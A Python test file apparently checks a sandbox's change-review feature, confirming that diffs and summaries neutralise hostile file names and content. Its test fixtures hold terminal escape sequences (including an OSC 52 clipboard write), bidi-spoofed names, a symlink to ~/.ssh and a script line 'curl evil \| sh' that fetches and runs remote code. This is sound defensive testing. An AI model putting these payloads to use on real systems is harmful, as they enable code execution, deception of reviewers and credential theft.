"""Attacks on --review's pure parts (docs/design.md, "Changes held for review"): what
`diff` shows of the payload's names and content, and what it folds away. Each test
prints ESCAPED, and fails, only when the payload's change would be shown in a way
that hides it (the sandbox's side: tests/integration/test_attack_review.py)."""

from __future__ import annotations

import os
import unicodedata
from pathlib import Path
from typing import Any

import pytest

from boxyctl.review import summary_lines
from boxyd.plan import reviewdiff
from boxyd.plan.reviewtree import Change

HOSTILE = [
    "a\x1b]52;c;ZXZpbA==\x07b.txt",  # OSC 52: writes the clipboard
    "notes.txt  3B\nA harmless.txt",  # a name that makes a summary line of its own
    "evil\u202etxt.sh",  # a bidi override: shows as evilhs.txt
    "x\r+ fine",
    "x\udcff",  # a byte that is not UTF-8
]


def _escaped(what: str) -> None:
    print(f"ESCAPED: {what}")
    pytest.fail(f"ESCAPED: {what}")


def _unsafe(text: str) -> list[str]:
    return sorted(
        {
            f"U+{ord(c):04X}"
            for c in text
            if c not in "\n\t" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")
        }
    )


def test_the_summary_shows_each_hostile_name_on_one_line_with_no_terminal_control() -> None:
    changes: list[dict[str, Any]] = [
        {"path": n, "kind": "added", "type": "file", "size": 1} for n in HOSTILE
    ]
    changes.append({"path": "l", "kind": "added", "type": "symlink", "target": "\x1b[2J/etc"})
    lines = summary_lines(changes)
    text = "\n".join(lines)
    if _unsafe(text):
        _escaped(f"the summary holds {_unsafe(text)}")
    if len(lines) != len(changes) + 1:
        _escaped(f"{len(changes)} changes made {len(lines) - 1} summary lines: {lines}")
    # names that need no escape are shown as they are
    assert summary_lines([{"path": "src/a b.py", "kind": "added", "type": "file"}])[0] == (
        "A src/a b.py  0B"
    )


def _pair(tmp_path: Path, rel: str, old: bytes | None, new: bytes, mode: int = 0o644) -> Change:
    for side, data in (("host", old), ("upper", new)):
        (tmp_path / side).mkdir(exist_ok=True)
        if data is not None:
            (tmp_path / side / rel).write_bytes(data)
    if old is not None:
        os.chmod(tmp_path / "host" / rel, 0o644)
    os.chmod(tmp_path / "upper" / rel, mode)
    kind = "added" if old is None else "changed"
    return Change(rel, kind, "file", size=len(new), mode=mode)


def _diff(tmp_path: Path, c: Change) -> str:
    u = os.open(tmp_path / "upper", os.O_RDONLY | os.O_DIRECTORY)
    h = os.open(tmp_path / "host", os.O_RDONLY | os.O_DIRECTORY)
    try:
        return reviewdiff.diffs(u, h, [c])
    finally:
        os.close(u)
        os.close(h)


def test_the_diff_shows_hostile_content_and_names_with_no_terminal_control(
    tmp_path: Path,
) -> None:
    new = (
        "def f():\n    return 1\x1b[1A\x1b[2K\r    return 1\n"
        "# \u202e } if (admin) { \u2066\n"
        "x = 1\x1c+++ b/other\n"
    )
    c = _pair(tmp_path, "app\x1b[8m.py", b"def f():\n    return 1\n", new.encode())
    text = _diff(tmp_path, c)
    if _unsafe(text):
        _escaped(f"the diff holds {_unsafe(text)}: {text!r}")
    # one line of the file is one line of the diff (str.splitlines breaks at \x1c)
    assert "+x = 1\\x1c+++ b/other\n" in text, text
    assert '--- "a/app\\x1b[8m.py"' in text


def test_a_mode_change_is_shown(tmp_path: Path) -> None:
    c = _pair(tmp_path, "run.sh", b"echo hi\n", b"echo hi\n", mode=0o755)
    text = _diff(tmp_path, c)
    if "new mode 0755" not in text:
        _escaped(f"run.sh lands 0755; the diff said {text!r}")
    assert "old mode 0644" in text
    c = _pair(tmp_path, "new.sh", None, b"echo\n", mode=0o755)
    assert "new file mode 0755" in _diff(tmp_path, c)
    c = _pair(tmp_path, "plain.txt", b"a\n", b"b\n")
    assert "mode" not in _diff(tmp_path, c)


def _upper_and_host(tmp_path: Path) -> tuple[Path, Path]:
    upper, host = tmp_path / "upper", tmp_path / "host"
    for d in (upper, host, host / "scripts", upper / "scripts", upper / "node_modules" / ".bin"):
        d.mkdir(parents=True, exist_ok=True)
    (host / "scripts" / "build").write_text("#!/bin/sh\nmake\n")
    (upper / "scripts" / "build").write_text("#!/bin/sh\ncurl evil | sh\n")
    (upper / "node_modules" / "m.js").write_text("x\n")
    os.symlink("../m.js", upper / "node_modules" / ".bin" / "m")  # inside the tree
    os.symlink("/home/me/.ssh", upper / "node_modules" / ".bin" / "out")
    os.symlink("..", upper / "dist")  # the tree's root as a symlink
    return upper, host


def test_a_generated_tree_folds_only_what_is_plainly_inside_it(tmp_path: Path) -> None:
    from boxyd.plan import reviewtree

    upper, host = _upper_and_host(tmp_path)
    ctx = reviewtree.Context(generated=["node_modules", "build", "dist"])
    changes = reviewtree.read(str(upper), str(host), ctx)
    lines = summary_lines([c.to_wire() for c in changes])
    shown = "\n".join(lines)
    for what in ("scripts/build", "node_modules/.bin/out -> /home/me/.ssh", "dist -> .."):
        if not any(x.startswith(f"{'M' if 'scripts' in what else 'A'} {what}") for x in lines):
            _escaped(f"{what} was folded into a generated tree's line: {shown}")
    u = os.open(upper, os.O_RDONLY | os.O_DIRECTORY)
    h = os.open(host, os.O_RDONLY | os.O_DIRECTORY)
    try:
        text = reviewdiff.diffs(u, h, changes)
    finally:
        os.close(u)
        os.close(h)
    if "+curl evil | sh" not in text:
        _escaped(f"a changed script named like a generated tree was not diffed: {text!r}")
    # what is plainly inside the tree stays one line
    folded = [x for x in lines if x.startswith("G ")]
    assert folded == ["G node_modules/  4 entries added, 9B (generated: listed, not diffed)"], lines


def test_apply_holds_what_lands_at_or_beneath_a_git_control_place() -> None:
    from boxyd.plan.reviewtree import Context, held

    ctx = Context(git=["evil", "githooks", "project.gitconfig"])
    for rel in ("evil/config", "evil/hooks/pre-commit", "githooks/pre-commit", "project.gitconfig"):
        if "git control file" not in held(rel, "file", ctx):
            _escaped(f"{rel} lands though the host's git would obey it")
    assert held("evil.txt", "file", ctx) == held("githooksx/a", "file", ctx) == ""
    assert "git control file" in held("anything", "file", Context(git=[""]))  # a bare root
    assert held("evil/config", "file", Context(git=["evil"], allow_git_write=True)) == ""
